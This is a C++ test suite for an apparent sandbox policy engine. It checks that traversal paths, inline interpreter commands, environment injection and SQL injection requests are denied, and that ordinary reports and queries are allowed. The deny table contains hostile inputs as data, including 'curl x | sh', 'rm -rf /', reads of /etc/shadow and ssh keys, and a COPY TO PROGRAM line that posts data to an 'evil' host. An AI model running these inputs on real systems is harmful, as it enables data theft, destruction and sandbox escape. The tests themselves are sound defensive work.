// The adversarial table: requests that try to get a side effect past policy (traversal,
// symlink escape, NUL and invalid UTF-8, inline interpreters, PATH hijack, environment
// injection, data-modifying CTEs, stacked statements, comment and case tricks, denied
// functions, COPY TO PROGRAM, SELECT INTO, locking, unparseable SQL), each with the decision
// and the exact rule expected; then the legitimate requests the same policy must allow.
// The policy is the shipped one (config/policy/base.toml + dev.toml) over a sandbox tree.
#include <set>

#include "policy_test_support.hpp"

using namespace agentsys::policy;
using namespace agentsys::policy::test;

namespace {

struct Case {
  std::string name;
  json request;
  std::string decision;
  std::string rule;
};

json path_req(const std::string& path, const char* access) {
  return {{"kind", "path"}, {"path", path}, {"access", access}};
}
/// `request` with the fields of `patch` added.
json with(json request, const json& patch) {
  request.merge_patch(patch);
  return request;
}
json cmd(std::vector<std::string> argv) { return {{"kind", "command"}, {"argv", argv}}; }
json sql(const std::string& text, const char* context = "read_only") {
  return {{"kind", "sql"}, {"sql", text}, {"context", context}};
}

std::vector<Case> attacks(const Sandbox& s) {
  const std::string run = s.run.string();
  const std::string state = s.state.string();
  const std::string out = s.output.string();
  const std::string repo = kSourceDir.string();
  std::vector<Case> c;
  auto deny = [&](std::string name, json req, std::string rule) {
    c.push_back({std::move(name), std::move(req), "deny", std::move(rule)});
  };
  // ---- path: traversal and canonicalisation
  deny("dotdot out of the run dir", path_req(run + "/../../../etc/passwd", "read"),
       "path.outside_roots");
  deny("many dotdots to /etc/shadow",
       path_req(run + "/../../../../../../../../etc/shadow", "write"), "path.outside_roots");
  deny("duplicate slashes and dotdot",
       path_req(state + "//runs//run_1/../../../outside/secret.txt", "read"), "path.outside_roots");
  deny("dot segments then dotdot", path_req(run + "/./././../../../outside/secret.txt", "write"),
       "path.outside_roots");
  deny("percent-encoded dotdot", path_req(run + "/%2e%2e/%2e%2e/outside/x", "write"),
       "path.encoded_traversal");
  deny("percent-encoded slash", path_req(run + "/..%2f..%2fsecret", "write"),
       "path.encoded_traversal");
  deny("upper-case percent encoding", path_req(run + "/%2E%2E/x", "read"),
       "path.encoded_traversal");
  deny("percent-encoded NUL", path_req(run + "/a%00.txt", "write"), "path.encoded_traversal");
  deny("symlinked dir escapes the run dir", path_req(run + "/escape/secret.txt", "read"),
       "path.outside_roots");
  deny("write through symlinked dir to a new file", path_req(run + "/escape/new.txt", "write"),
       "path.outside_roots");
  deny("symlinked file escapes", path_req(run + "/link_file", "read"), "path.outside_roots");
  deny("missing dir, dotdot, then symlink", path_req(run + "/newdir/../escape/x", "write"),
       "path.outside_roots");
  deny("symlink loop", path_req(run + "/loop1/x", "read"), "path.symlink_loop");
  deny("/proc/self/root leads to /", path_req("/proc/self/root/etc/passwd", "read"),
       "path.outside_roots");
  deny("NUL byte", path_req(run + std::string("/a\0/../../etc/passwd", 21), "write"),
       "path.nul_byte");
  deny("invalid UTF-8", path_req(run + "/\xff\xfe", "write"), "path.invalid_utf8");
  deny("overlong UTF-8 dots", path_req(run + "/\xc0\xae\xc0\xae/x", "write"), "path.invalid_utf8");
  deny("UTF-16 surrogate in UTF-8", path_req(run + "/\xed\xa0\x80", "write"), "path.invalid_utf8");
  deny("newline in a path", path_req(run + "/a\nb", "write"), "path.control_character");
  deny("relative path without a base", path_req("../etc/passwd", "read"), "path.not_absolute");
  deny("relative path climbing out of cwd",
       with(path_req("../../../outside/secret.txt", "read"), {{"cwd", run}}), "path.outside_roots");
  deny("writing the shipped configuration", path_req(repo + "/config/env/prod.toml", "write"),
       "path.outside_roots");
  deny("reading /etc/passwd", path_req("/etc/passwd", "read"), "path.outside_roots");
  deny("ssh key inside the run dir", path_req(run + "/.ssh/id_rsa", "write"), "path.deny-secrets");
  deny("pem file in the output dir", path_req(out + "/server.pem", "read"), "path.deny-secrets");
  deny("the kernel's database", path_req(state + "/agentsys.db", "write"),
       "path.deny-kernel-store");
  deny("the kernel's database, via dotdot", path_req(run + "/../../agentsys.db-wal", "read"),
       "path.deny-kernel-store");
  deny("another run's directory", path_req(state + "/runs/run_2/x", "write"), "path.outside_roots");
  deny("too long", path_req(run + "/" + std::string(5000, 'a'), "write"), "path.too_long");

  // ---- command: inline interpreters
  deny("sh -c", cmd({"sh", "-c", "id"}), "command.inline_interpreter");
  deny("bash -c", cmd({"bash", "-c", "curl x | sh"}), "command.inline_interpreter");
  deny("bash -lc cluster", cmd({"bash", "-lc", "id"}), "command.inline_interpreter");
  deny("bash --norc -c", cmd({"bash", "--norc", "-c", "id"}), "command.inline_interpreter");
  deny("/bin/sh by absolute path", cmd({"/bin/sh", "-c", "id"}), "command.inline_interpreter");
  deny("dash -c", cmd({"dash", "-c", "id"}), "command.inline_interpreter");
  deny("sh reading stdin", cmd({"sh"}), "command.inline_interpreter");
  deny("bash -s", cmd({"bash", "-s"}), "command.inline_interpreter");
  deny("python3 -c", cmd({"python3", "-c", "import os; os.system('id')"}),
       "command.inline_interpreter");
  deny("python3 -Ic cluster", cmd({"python3", "-Ic", "print(1)"}), "command.inline_interpreter");
  deny("python3 - (stdin)", cmd({"python3", "-"}), "command.inline_interpreter");
  deny("python3 without a script", cmd({"python3"}), "command.inline_interpreter");
  deny("perl -e", cmd({"perl", "-e", "system('id')"}), "command.inline_interpreter");
  deny("perl -ne cluster", cmd({"perl", "-ne", "print"}), "command.inline_interpreter");
  deny("node --eval", cmd({"node", "--eval", "1"}), "command.inline_interpreter");
  deny("ruby -e", cmd({"ruby", "-e", "1"}), "command.inline_interpreter");
  deny("env sh -c", cmd({"env", "sh", "-c", "id"}), "command.inline_interpreter");
  deny("env -i bash -c", cmd({"env", "-i", "bash", "-c", "id"}), "command.inline_interpreter");
  deny("env VAR=1 python3 -c", cmd({"env", "X=1", "python3", "-c", "1"}),
       "command.inline_interpreter");
  deny("env -S split string", cmd({"env", "-S", "sh -c id"}), "command.inline_interpreter");
  deny("busybox sh -c", cmd({"busybox", "sh", "-c", "id"}), "command.inline_interpreter");
  deny("xargs sh -c", cmd({"xargs", "-I{}", "sh", "-c", "{}"}), "command.inline_interpreter");
  deny("find -exec sh -c", cmd({"find", ".", "-exec", "sh", "-c", "id", ";"}),
       "command.inline_interpreter");
  deny("timeout wrapping bash -c", cmd({"timeout", "5", "bash", "-c", "id"}),
       "command.inline_interpreter");
  deny("nice -n wrapping sh -c", cmd({"nice", "-n", "5", "sh", "-c", "id"}),
       "command.inline_interpreter");
  deny("awk program on the command line", cmd({"awk", "BEGIN{system(\"id\")}"}),
       "command.inline_interpreter");

  // ---- command: hijack, injection, allowlist
  deny("absolute path to a fake python3", cmd({(s.fakebin / "python3").string(), "x.py"}),
       "command.not_allowlisted");
  deny("LD_PRELOAD", with(cmd({"true"}), {{"env", {{"LD_PRELOAD", "/tmp/evil.so"}}}}),
       "command.dangerous_env");
  deny("BASH_ENV", with(cmd({"true"}), {{"env", {{"BASH_ENV", "/tmp/x"}}}}),
       "command.dangerous_env");
  deny("exported bash function", with(cmd({"true"}), {{"env", {{"BASH_FUNC_ls%%", "() { id; }"}}}}),
       "command.dangerous_env");
  deny("python3 running a script outside the script dirs", cmd({"python3", "/etc/passwd"}),
       "command.args_not_allowed");
  deny("python3 script via dotdot out of the script dir",
       cmd({"python3", s.scripts.string() + "/../outside/secret.txt"}), "command.args_not_allowed");
  deny("python3 -m module", cmd({"python3", "-m", "http.server"}), "command.args_not_allowed");
  deny("script argument with a newline",
       cmd({"python3", (s.scripts / "report.py").string(), "a\nb"}), "command.args_not_allowed");
  deny("id is not allowlisted", cmd({"id"}), "command.not_allowlisted");
  deny("rm -rf is not allowlisted", cmd({"rm", "-rf", "/"}), "command.not_allowlisted");
  deny("sleep with a smuggled argument", cmd({"sleep", "1;rm"}), "command.args_not_allowed");
  deny("sleep with an extra argument", cmd({"sleep", "1", "2"}), "command.args_not_allowed");
  deny("NUL in an argument", cmd({"echo", std::string("a\0b", 3)}), "command.nul_byte");
  deny("invalid UTF-8 argument", cmd({"echo", "\xff"}), "command.invalid_utf8");
  deny("argument too long", cmd({"echo", std::string(5000, 'x')}), "command.arg_too_long");
  deny("unknown program", cmd({"no-such-tool-xyz"}), "command.not_found");
  deny("working directory outside the roots", with(cmd({"true"}), {{"cwd", "/etc"}}),
       "path.outside_roots");
  deny("working directory through an escaping symlink",
       with(cmd({"true"}), {{"cwd", run + "/escape"}}), "path.outside_roots");

  // ---- sql
  deny("data-modifying CTE (DELETE)",
       sql("WITH d AS (DELETE FROM task_runs RETURNING *) SELECT * FROM d"),
       "sql.data_modifying_cte");
  deny("data-modifying CTE (UPDATE)",
       sql("WITH u AS (UPDATE task_runs SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM "
           "u"),
       "sql.data_modifying_cte");
  deny("data-modifying CTE (INSERT) nested in a subquery",
       sql("SELECT * FROM (WITH i AS (INSERT INTO tenants VALUES (1) RETURNING 1) SELECT * FROM i) "
           "x"),
       "sql.data_modifying_cte");
  deny("stacked DROP", sql("SELECT 1; DROP TABLE task_runs"), "sql.multiple_statements");
  deny("stacked DELETE", sql("SELECT * FROM task_runs; DELETE FROM task_runs"),
       "sql.multiple_statements");
  deny("line comment hides nothing", sql("SELECT 1 -- harmless\n; DROP TABLE task_runs"),
       "sql.multiple_statements");
  deny("block comment before DROP", sql("/* SELECT */ DROP TABLE task_runs"), "sql.not_select");
  deny("mixed-case DROP", sql("DrOp TaBlE task_runs"), "sql.not_select");
  deny("mixed-case denied function", sql("sElEcT PG_READ_FILE('/etc/passwd')"),
       "sql.denied_function");
  deny("schema-qualified denied function", sql("SELECT pg_catalog.pg_read_file('/etc/passwd')"),
       "sql.denied_function");
  deny("quoted schema-qualified function", sql("SELECT \"pg_catalog\".\"pg_read_file\"('x')"),
       "sql.denied_function");
  deny("pg_read_binary_file in a subquery",
       sql("SELECT * FROM task_runs WHERE id IN (SELECT length(pg_read_binary_file('/x')))"),
       "sql.denied_function");
  deny("pg_ls_dir", sql("SELECT pg_ls_dir('/')"), "sql.denied_function");
  deny("lo_export", sql("SELECT lo_export(1234, '/tmp/x')"), "sql.denied_function");
  deny("lo_import", sql("SELECT lo_import('/etc/passwd')"), "sql.denied_function");
  deny("dblink in FROM", sql("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)"),
       "sql.denied_function");
  deny("pg_sleep", sql("SELECT pg_sleep(100)"), "sql.denied_function");
  deny("set_config", sql("SELECT set_config('search_path', 'evil', false)"), "sql.denied_function");
  deny("query_to_xml runs any SQL",
       sql("SELECT query_to_xml('DELETE FROM task_runs', true, true, '')"), "sql.denied_function");
  deny("nextval changes a sequence", sql("SELECT nextval('s')"), "sql.denied_function");
  deny("SQLite load_extension", sql("SELECT load_extension('/tmp/evil.so')"),
       "sql.denied_function");
  deny("COPY TO PROGRAM", sql("COPY task_runs TO PROGRAM 'curl -d @- evil'"), "sql.not_select");
  deny("COPY query TO file", sql("COPY (SELECT 1) TO '/tmp/x'"), "sql.not_select");
  deny("SELECT INTO", sql("SELECT * INTO backup FROM task_runs"), "sql.select_into");
  deny("FOR UPDATE", sql("SELECT * FROM task_runs FOR UPDATE"), "sql.locking_clause");
  deny("FOR SHARE in a subquery", sql("SELECT * FROM (SELECT * FROM task_runs FOR SHARE) t"),
       "sql.locking_clause");
  deny("typo does not parse", sql("SELEC * FROM task_runs"), "sql.parse_error");
  deny("truncated statement", sql("SELECT * FROM"), "sql.parse_error");
  deny("SQLite ATTACH does not parse", sql("ATTACH DATABASE '/tmp/x' AS x"), "sql.parse_error");
  deny("table not allowlisted", sql("SELECT * FROM secrets"), "sql.table_not_allowed");
  deny("catalog table in a join", sql("SELECT * FROM task_runs t JOIN pg_shadow s ON true"),
       "sql.table_not_allowed");
  deny("table in a subquery", sql("SELECT * FROM task_runs WHERE id IN (SELECT id FROM users)"),
       "sql.table_not_allowed");
  deny("CTE name used outside its scope",
       sql("SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) x, users"),
       "sql.table_not_allowed");
  deny("non-recursive CTE naming itself reads the real table",
       sql("WITH users AS (SELECT * FROM users) SELECT * FROM users"), "sql.table_not_allowed");
  deny("temp schema shadowing an allowed table", sql("SELECT * FROM temp.task_runs"),
       "sql.table_not_allowed");
  deny("UNION with sqlite_master",
       sql("SELECT name FROM tenants UNION SELECT name FROM sqlite_master"),
       "sql.table_not_allowed");
  deny("INSERT in read_only", sql("INSERT INTO task_runs VALUES (1)"), "sql.not_select");
  deny("GRANT", sql("GRANT ALL ON task_runs TO public"), "sql.not_select");
  deny("CREATE TABLE", sql("CREATE TABLE x (a int)"), "sql.not_select");
  deny("EXPLAIN ANALYZE executes", sql("EXPLAIN ANALYZE DELETE FROM task_runs"), "sql.not_select");
  deny("SET search_path", sql("SET search_path = evil"), "sql.not_select");
  deny("DO block", sql("DO $$ BEGIN PERFORM 1; END $$"), "sql.not_select");
  deny("only a comment", sql("-- nothing here"), "sql.empty");
  deny("NUL hides a second statement", sql(std::string("SELECT 1\0; DROP TABLE x", 23)),
       "sql.nul_byte");
  deny("unknown context", sql("SELECT 1", "superuser"), "sql.unknown_context");
  deny("DELETE without WHERE", sql("DELETE FROM report_jobs", "read_write"), "sql.missing_where");
  deny("UPDATE a read-only table",
       sql("UPDATE task_runs SET status = 'x' WHERE id = 1", "read_write"),
       "sql.write_not_allowed");
  deny("MERGE",
       sql("MERGE INTO report_jobs r USING task_runs t ON r.id = t.id WHEN MATCHED THEN DELETE",
           "read_write"),
       "sql.not_select");
  return c;
}

std::vector<Case> legitimate(const Sandbox& s) {
  const std::string run = s.run.string();
  const std::string repo = kSourceDir.string();
  const std::string script = (s.scripts / "report.py").string();
  std::vector<Case> c;
  auto allow = [&](std::string name, json req, std::string rule) {
    c.push_back({std::move(name), std::move(req), "allow", std::move(rule)});
  };
  allow("read an env file", path_req(repo + "/config/env/prod.toml", "read"),
        "path.read-config-examples");
  allow("read the state dir", path_req(s.state.string() + "/runs/run_1/input.json", "read"),
        "path.read-state");
  allow("write a run output", path_req(run + "/out/report.csv", "write"), "path.run-and-output");
  allow("write the output dir", path_req(s.output.string() + "/202602/ops.md", "write"),
        "path.run-and-output");
  allow("relative path inside cwd", with(path_req("out/./x//y.csv", "write"), {{"cwd", run}}),
        "path.run-and-output");
  allow("legacy script with options",
        cmd({"python3", script, "--target-month", "202602", "--db=/data/ops.db"}),
        "cmd.python-legacy-scripts");
  allow("legacy script by relative path",
        with(cmd({"python3", "report.py", "--dry-run"}), {{"cwd", s.scripts.string()}}),
        "cmd.python-legacy-scripts");
  allow("sleep", cmd({"sleep", "1.5"}), "cmd.sleep");
  allow("/bin/true by absolute path", cmd({"/bin/true"}), "cmd.true");
  allow("echo", cmd({"echo", "hello world"}), "cmd.echo");
  allow("report with join and group by",
        sql("SELECT t.name, count(*) AS runs, avg(r.latency_ms) FROM task_runs r "
            "JOIN tenants t ON t.id = r.tenant_id WHERE r.started_at >= '2026-02-01' "
            "AND r.started_at < '2026-03-01' GROUP BY t.name ORDER BY runs DESC LIMIT 20"),
        "sql.read_only");
  allow(
      "CTE, window functions, percentile_cont",
      sql("WITH monthly AS (SELECT module, date_trunc('month', started_at) AS month, "
          "latency_ms, cost FROM task_runs WHERE status <> 'cancelled') "
          "SELECT module, month, percentile_cont(0.95) WITHIN GROUP (ORDER BY latency_ms) AS p95, "
          "sum(cost) OVER (PARTITION BY module ORDER BY month) AS running_cost, "
          "rank() OVER (PARTITION BY month ORDER BY sum(cost) DESC) FROM monthly "
          "GROUP BY module, month, latency_ms, cost"),
      "sql.read_only");
  allow("SQLite date functions and month-over-month",
        sql("SELECT strftime('%Y-%m', started_at) AS month, tenant_id, sum(cost) AS cost, "
            "lag(sum(cost)) OVER (PARTITION BY tenant_id ORDER BY strftime('%Y-%m', started_at)) "
            "AS previous FROM main.task_runs WHERE started_at >= date('2026-02-01', '-1 month') "
            "GROUP BY 1, 2"),
        "sql.read_only");
  allow("recursive CTE",
        sql("WITH RECURSIVE m(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM m WHERE n < 12) "
            "SELECT n, (SELECT count(*) FROM image_jobs) FROM m"),
        "sql.read_only");
  allow("comment with a semicolon", sql("SELECT count(*) FROM skill_runs /* ; DROP TABLE x */"),
        "sql.read_only");
  allow("mixed-case SELECT", sql("sElEcT COUNT(*) fRoM mcp_calls"), "sql.read_only");
  allow("trailing semicolon", sql("SELECT 1;"), "sql.read_only");
  allow("update with WHERE in read_write",
        sql("UPDATE report_jobs SET status = 'done' WHERE id = 7", "read_write"), "sql.read_write");
  allow("insert from select in read_write",
        sql("INSERT INTO report_jobs (id, month) SELECT id, '202602' FROM task_runs WHERE id < 3",
            "read_write"),
        "sql.read_write");
  allow("dev publish",
        {{"kind", "action"}, {"action", "publish"}, {"module", "report_orchestrator"}},
        "action.allow");
  return c;
}

void check(const Engine& engine, const Sandbox& s, const Case& c) {
  json request = c.request;
  request["vars"] = {{"run_dir", s.run.string()}};
  CAPTURE(c.name);
  const json d = engine.decide_json(request);
  CAPTURE(d.dump());
  CHECK(d["decision"] == c.decision);
  CHECK(d["rule"] == c.rule);
  CHECK_FALSE(d["reason"].get<std::string>().empty());
}

}  // namespace

TEST_CASE("policy: adversarial requests are denied by the expected rule") {
  Sandbox s;
  auto engine = s.engine({"dev"});
  const auto cases = attacks(s);
  CHECK(cases.size() >= 60);
  std::set<std::string> kinds;
  for (const auto& c : cases) {
    kinds.insert(c.request["kind"].get<std::string>());
    check(*engine, s, c);
  }
  CHECK(kinds == std::set<std::string>{"command", "path", "sql"});
  MESSAGE(cases.size() << " adversarial cases");
}

TEST_CASE("policy: legitimate requests are allowed") {
  Sandbox s;
  auto engine = s.engine({"dev"});
  for (const auto& c : legitimate(s)) check(*engine, s, c);
}

TEST_CASE("policy: a caller's PATH cannot substitute the executable") {
  Sandbox s;
  auto engine = s.engine({"dev"});
  const json d = engine->decide_json(
      {{"kind", "command"},
       {"argv", {"python3", (s.scripts / "report.py").string()}},
       {"env", {{"PATH", s.fakebin.string()}, {"LANG", "C.UTF-8"}, {"SECRET_TOKEN", "x"}}}});
  REQUIRE(d["decision"] == "allow");
  const std::string resolved = d["resolved"];
  CHECK(resolved.rfind("/usr/", 0) == 0);  // the system interpreter, found on the policy's path
  CHECK(resolved.find(s.fakebin.string()) == std::string::npos);
  CHECK(d["env"]["PATH"] == "/usr/local/bin:/usr/bin:/bin");
  CHECK(d["env"]["LANG"] == "C.UTF-8");
  CHECK_FALSE(d["env"].contains("SECRET_TOKEN"));
  CHECK(d["env_dropped"] == json::array({"PATH", "SECRET_TOKEN"}));
}

TEST_CASE("policy: decisions report canonical paths, tables and statements") {
  Sandbox s;
  auto engine = s.engine({"dev"});
  const json p = engine->decide_json({{"kind", "path"},
                                      {"path", s.run.string() + "/./a//b/../c.txt"},
                                      {"access", "write"},
                                      {"vars", {{"run_dir", s.run.string()}}}});
  CHECK(p["decision"] == "allow");
  CHECK(p["canonical"] == s.run.string() + "/a/c.txt");
  const json q = engine->decide_json(
      {{"kind", "sql"},
       {"sql", "WITH x AS (SELECT * FROM tenants) SELECT * FROM x JOIN main.task_runs r ON true"}});
  CHECK(q["decision"] == "allow");
  CHECK(q["statement"] == "SELECT");
  CHECK(q["tables"] == json::array({"main.tenants", "main.task_runs"}));
  const json e = engine->decide_json({{"kind", "sql"}, {"sql", "SELEC 1"}});
  CHECK(e["reason"].get<std::string>().find("syntax error at or near \"SELEC\"") !=
        std::string::npos);
}

TEST_CASE("policy: inline code is allowed only where a rule says so") {
  json config{{"layers",
               {{{"name", "base"},
                 {"document",
                  {{"command",
                    {{"allow",
                      {{{"id", "cmd.sh-ok"},
                        {"executable", "sh"},
                        {"args", {"-c", "echo ok"}},
                        {"inline_code", true}},
                       {{"id", "cmd.bash"}, {"executable", "bash"}, {"more_args", ".*"}}}}}}}}}}}};
  Problems problems;
  auto engine = Engine::build(config, problems);
  REQUIRE_MESSAGE(engine, problems.text());
  CHECK(engine->decide(CommandRequest{{"sh", "-c", "echo ok"}, {}, {}}).rule == "cmd.sh-ok");
  CHECK(engine->decide(CommandRequest{{"sh", "-c", "id"}, {}, {}}).rule ==
        "command.inline_interpreter");
  // bash is allowlisted with any arguments, but not for inline code.
  CHECK(engine->decide(CommandRequest{{"bash", "-c", "id"}, {}, {}}).rule ==
        "command.inline_interpreter");
}

TEST_CASE("policy: deciding without the filesystem is lexical and uses the resolved table") {
  Sandbox s;
  auto engine = s.engine({"dev"}, EngineOptions{.use_filesystem = false});
  const Vars run{{"run_dir", s.run.string()}};
  Decision d = engine->decide(PathRequest{s.run.string() + "/x/../y.csv", Access::write, {}}, run);
  CHECK(d.verdict == Verdict::allow);
  CHECK(d.canonical == s.run.string() + "/y.csv");
  d = engine->decide(PathRequest{s.run.string() + "/../../../etc/passwd", Access::read, {}}, run);
  CHECK(d.rule == "path.outside_roots");
  d = engine->decide(CommandRequest{{"sleep", "1"}, {}, {}});
  CHECK(d.rule == "cmd.sleep");
  d = engine->decide(CommandRequest{{"id"}, {}, {}});
  CHECK(d.rule == "command.not_found");  // not among the policy's executables
}
